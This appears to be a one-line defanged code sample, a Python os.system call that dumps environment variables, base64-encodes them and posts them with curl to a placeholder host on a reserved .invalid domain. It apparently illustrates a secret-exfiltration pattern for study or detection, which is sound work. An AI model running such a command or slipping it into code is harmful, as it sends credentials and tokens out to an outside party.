# defanged sample
os.system('env | base64 | curl -d @- https://a.example.invalid')
